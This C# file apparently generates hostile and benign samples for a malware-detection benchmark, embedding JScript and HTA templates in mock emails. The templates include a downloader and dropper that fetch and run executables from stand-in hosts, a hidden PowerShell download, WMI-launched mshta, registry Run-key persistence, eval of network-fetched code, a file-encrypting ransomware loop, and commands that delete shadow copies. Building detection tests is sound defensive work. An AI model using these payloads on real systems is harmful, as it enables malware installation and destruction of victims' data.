using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Pages;

/// <summary>Scripts for Windows Script Host and HTML applications that fetch, carry, stay and destroy; and sources of web sites.</summary>
internal sealed class HostScripts : ISampleKind
{
    public string Name => "host-script";

    public IEnumerable<Sample> Make(Random random)
    {
        foreach (var (what, code, types, reasons) in Hostile(random))
        {
            var source = random.Layered(code, browser: false);
            yield return Sample.Hostile($"{what}, js", SampleMail.With(random, SampleFile.Text($"{random.Word()}.js", source)), types, reasons);
            var page = $"<html><head><hta:application id=\"{random.Word()}\" windowstate=\"minimize\"><script language=\"jscript\">{source.Replace("WScript.Sleep", "void", StringComparison.Ordinal)}</script></head><body></body></html>";
            yield return Sample.Hostile($"{what}, hta", SampleMail.With(random, SampleFile.Text($"{random.Word()}.hta", page)), types, reasons);
        }

        for (var number = 0; number < 4; number++)
        {
            var json = $"{{\"name\":\"{random.Word()}\",\"version\":\"1.{random.Next(20)}.0\",\"scripts\":{{\"build\":\"node {random.Word()}.mjs\"}},\"code\":\"new ActiveXObject\"}}";
            yield return Sample.Benign("package description", SampleMail.With(random, SampleFile.Text($"{random.Word()}.json", json, "application/json")));
        }
    }

    private static IEnumerable<(string What, string Code, IReadOnlyList<AttackType> Types, IReadOnlyList<string> Reasons)> Hostile(Random random)
    {
        string T(string text) => random.Text(text, browser: false);
        var (shell, http, stream, path) = (random.Name(), random.Name(), random.Name(), random.Name());
        var address = $"http{random.Pick(["", "s"])}://{random.Word()}.{random.Pick(["example", "test"])}/{random.Word()}.{random.Pick(["exe", "dll", "png", "dat"])}";
        var run = $"{shell}[{T("Run")}]({path},0,false)";
        yield return ("downloader", $"var {shell}=new ActiveXObject({T("WScript.Shell")}),{http}=new ActiveXObject({T(random.Pick(["MSXML2.XMLHTTP", "WinHttp.WinHttpRequest.5.1", "MSXML2.ServerXMLHTTP.6.0"]))});{http}.open('GET',{T(address)},false);{http}.send();var {path}={shell}.ExpandEnvironmentStrings({T("%TEMP%")})+{T($"\\{random.Word()}.exe")};if({http}.status==200){{var {stream}=new ActiveXObject({T("ADODB.Stream")});{stream}.open();{stream}.type=1;{stream}.write({http}.responseBody);{stream}.position=0;{stream}.saveToFile({path},2);{stream}.close();{run}}}", [AttackType.Behaviour], ["behaviour-installs"]);
        yield return ("one line of PowerShell", $"var {shell}=new ActiveXObject({T("WScript.Shell")});{shell}.Run({T($"powershell -w hidden -nop -c \"iwr {address} -OutFile $env:TEMP\\{random.Word()}.exe\"")},0)", [AttackType.Behaviour], ["behaviour-execute", "behaviour-installs", "behaviour-start", "behaviour-download"]);
        yield return ("dropper", $"var n=new ActiveXObject({T("Microsoft.XMLDOM")}).createElement('t');n.dataType={T("bin.base64")};n.text='{Convert.ToBase64String([.. "MZ"u8, .. random.Bytes(random.Next(200, 900))])}';var {stream}=new ActiveXObject({T("ADODB.Stream")});{stream}.Type=1;{stream}.Open();{stream}.Write(n.nodeTypedValue);var {path}=new ActiveXObject({T("Scripting.FileSystemObject")}).GetSpecialFolder(2)+{T($"\\{random.Word()}.exe")};{stream}.SaveToFile({path},2);{stream}.Close();new ActiveXObject({T("Shell.Application")}).ShellExecute({path},'','','open',1)", [AttackType.Behaviour], ["behaviour-installs"]);
        yield return ("run by WMI", $"GetObject({T("winmgmts:\\\\.\\root\\cimv2")}).Get({T("Win32_Process")}).Create({T($"mshta {address}")},null,null,0)", [AttackType.Behaviour], ["behaviour-execute", "behaviour-installs", "behaviour-start", "behaviour-download"]);
        yield return ("stays", $"var {shell}=new ActiveXObject({T("WScript.Shell")});{shell}.RegWrite({T($"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{random.Word()}")},{T($"wscript.exe //b {random.Word()}.js")},'REG_SZ');{shell}.Run({T($"cmd /c start {address}")},0)", [AttackType.Behaviour], ["behaviour-persist"]);
        yield return ("code from the network", $"var {http}=new ActiveXObject({T("Microsoft.XMLHTTP")});{http}.open('GET',{T(address)},false);{http}.send();eval({http}.responseText)", [AttackType.Behaviour], ["behaviour-installs"]);
        yield return ("encrypts", $"var f=new ActiveXObject({T("Scripting.FileSystemObject")});function w(d){{for(var e=new Enumerator(d.Files);!e.atEnd();e.moveNext()){{var p=e.item().Path;if(/{random.Pick(["\\.(docx|xlsx|pdf|jpg|txt|pptx)$", "doc|xls|pdf|ppt|jpg|csv|txt"])}/i.test(p)){{var t=f.OpenTextFile(p,1),s=t.ReadAll();t.Close();var r='';for(var i=0;i<s.length;i++)r+=String.fromCharCode(s.charCodeAt(i)^{random.Next(1, 255)});var o=f.OpenTextFile(p,2);o.Write(r);o.Close();f.MoveFile(p,p+'.{random.Word()}')}}}}for(var e=new Enumerator(d.SubFolders);!e.atEnd();e.moveNext())w(e.item())}}w(f.GetFolder(new ActiveXObject({T("WScript.Shell")}).SpecialFolders({T("MyDocuments")})))", [AttackType.Ransomware], ["behaviour-encrypt"]);
        yield return ("takes recovery away", $"new ActiveXObject({T("WScript.Shell")}).Run({T("cmd /c vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no")},0);for(var e=new Enumerator(GetObject({T("winmgmts:")}).ExecQuery('select * from Win32_ShadowCopy'));!e.atEnd();e.moveNext())e.item().Delete_()", [AttackType.Ransomware], ["behaviour-disable-recovery"]);
    }
}
